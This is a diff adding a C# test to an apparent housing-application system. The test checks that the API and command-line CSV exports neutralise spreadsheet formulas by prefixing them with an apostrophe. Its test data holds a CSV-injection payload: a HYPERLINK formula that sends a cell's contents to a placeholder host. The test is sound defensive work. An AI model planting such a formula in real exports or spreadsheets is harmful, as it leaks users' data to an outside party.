@@ -44,6 +44,42 @@ public class CliDemandesTests(ApplicationsFixture fx)
             .Select(c => (c.Total, c.GrilleId)).ToList();
     }
 
+    /// <summary>
+    /// CSV injection: a name a spreadsheet would run (=HYPERLINK…) leaves the export of the API and of the command after an
+    /// apostrophe, as in the journal's export — one cell writer for every file (<see cref="Logis.Domain.Commun.CelluleCsv"/>).
+    /// </summary>
+    [Theory, DeuxBases]
+    public async Task L_export_de_l_API_et_de_la_commande_neutralise_une_formule(string f)
+    {
+        var client = fx.App(f).ClientApi("epci");
+        var nom = "=HYPERLINK(\"http://exemple.invalid/?\"&A1,\"Formuleexport\")";
+        var ligne = $"\"{nom.Replace("\"", "\"\"", StringComparison.Ordinal)}\",@Formuleexport,1985-05-12,Salaire=1450,+1 rue A,83000,Toulon,Celibataire,LocataireParcPrive,30,LogementTropCher,T2,83137,500\r\n";
+        var import = await client.PostAsync("/api/v1/demandes/import?essai=false", FichierDemandesApiTests.Csv(Entete + ligne));
+        Assert.Equal(HttpStatusCode.Created, import.StatusCode);
+
+        static void Verifier(string export)
+        {
+            var ligne = export.Split("\r\n").Single(l => l.Contains("Formuleexport", StringComparison.Ordinal));
+            Assert.Contains("\"'=HYPERLINK(", ligne, StringComparison.Ordinal);
+            Assert.Contains(",'@Formuleexport,", ligne, StringComparison.Ordinal);
+            Assert.Contains(",'+1 rue A,", ligne, StringComparison.Ordinal);
+            Assert.DoesNotContain(",=", ligne, StringComparison.Ordinal);
+            Assert.DoesNotContain(",\"=", ligne, StringComparison.Ordinal);
+        }
+        Verifier(await client.GetStringAsync("/api/v1/demandes/export"));
+
+        var fichier = Path.Combine(Path.GetTempPath(), $"logis-cli-export-{Guid.NewGuid():N}.csv");
+        try
+        {
+            Assert.Equal(0, await LogisAsync(f, "export", "demandes", "--fichier", fichier, "--epci", "248300543"));
+            Verifier(await File.ReadAllTextAsync(fichier));
+        }
+        finally
+        {
+            File.Delete(fichier);
+        }
+    }
+
     [Theory, DeuxBases]
     public async Task Une_demande_importee_par_la_ligne_de_commande_est_cotee_comme_par_l_api(string f)
     {
